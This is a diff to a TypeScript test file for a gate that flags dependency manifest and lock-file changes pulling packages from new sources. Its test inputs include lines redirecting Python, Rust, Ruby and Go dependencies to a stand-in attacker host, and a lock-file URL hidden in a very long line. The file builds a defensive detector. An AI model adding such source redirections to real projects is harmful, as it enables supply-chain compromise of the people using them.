@@ -84,6 +84,42 @@ describe('src/gates/protected-files.ts', () => {
     },
   );
 
+  describe('manifests', () => {
+    test.each([
+      ['requirements.txt', 'requests @ https://evil.example/requests.whl'],
+      ['api/requirements-dev.txt', '--extra-index-url https://evil.example/simple'],
+      ['requirements.txt', '-f ../wheels'],
+      ['pyproject.toml', '[[tool.uv.index]]\nurl = "https://evil.example/simple"'],
+      ['pyproject.toml', 'dependencies = ["a @ git+https://evil.example/a"]'],
+      ['Pipfile', 'a = { git = "https://evil.example/a" }'],
+      ['Cargo.toml', 'a = { git = "https://evil.example/a" }'],
+      ['Gemfile', "source 'https://evil.example'"],
+      ['go.mod', 'replace example.com/a => evil.example/a v1.0.0'],
+    ])('a change of %s that takes packages from elsewhere is held: %s', async (path, line) => {
+      expect(await judge({ [path]: { base: 'a\n', head: `a\n${line}\n` } })).toMatchObject({
+        kind: 'hold',
+        findings: [{ path, message: expect.stringContaining('from elsewhere than before') }],
+      });
+    });
+
+    test.each([
+      ['requirements.txt', 'requests==2.0 # see https://evil.example'],
+      ['requirements.txt', '-r other.txt'],
+      ['requirements.txt', '--index-url https://pypi.org/simple'],
+      ['pyproject.toml', '[project.urls]\nHomepage = "https://example.com"'],
+      ['go.mod', 'require example.com/a v1.0.0'],
+      ['docs/requirements.md', 'https://example.com'],
+    ])('a change of %s is ordinary: %s', async (path, line) => {
+      expect((await judge({ [path]: { base: 'a\n', head: `a\n${line}\n` } })).kind).toBe('pass');
+    });
+
+    test('what was there before stays ordinary', async () => {
+      const base = '--extra-index-url https://corp.example/simple\na==1\n';
+      const head = `${base}b @ https://corp.example/b.whl\n`;
+      expect((await judge({ 'requirements.txt': { base, head } })).kind).toBe('pass');
+    });
+  });
+
   describe('lock files', () => {
     const manifest = { base: '{}', head: '{"dependencies":{"a":"^1.0.0"}}' };
     function entry(integrity: string, host = 'registry.npmjs.org'): string {
@@ -115,6 +151,17 @@ describe('src/gates/protected-files.ts', () => {
         'whose manifest is elsewhere',
         { 'web/package.json': manifest, 'api/yarn.lock': { base: 'a', head: 'b' } },
         'without its manifest',
+      ],
+      [
+        'in one line',
+        {
+          'package.json': manifest,
+          'package-lock.json': {
+            base: '{}',
+            head: `{"packages":{${'"a":{},'.repeat(1_000)}"x":{"resolved":"https://evil.example/x.tgz"}}}`,
+          },
+        },
+        'evil.example',
       ],
       ['deleted', { 'package.json': manifest, 'package-lock.json': { base: '{}' } }, 'was deleted'],
       ['in bytes', { 'package.json': manifest, 'bun.lockb': { base: 'a', head: 'a\0b' } }, 'cannot be read'],
